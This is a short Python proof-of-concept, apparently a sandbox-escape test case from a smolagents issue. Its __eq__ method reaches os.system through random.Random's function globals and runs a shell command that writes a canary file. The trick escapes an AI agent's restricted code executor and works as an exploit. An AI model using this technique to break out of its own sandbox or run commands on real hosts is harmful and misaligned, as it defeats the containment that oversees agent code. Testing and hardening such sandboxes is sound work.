# source: smolagents issue 2395
# effect: process

class Bomb:
    def __eq__(self, other):
        return other.__class__.__init__.__globals__["_os"].system("echo late/eq_in_comparison > /tmp/canary/process") == 0


import random

[random.Random()].count(Bomb())
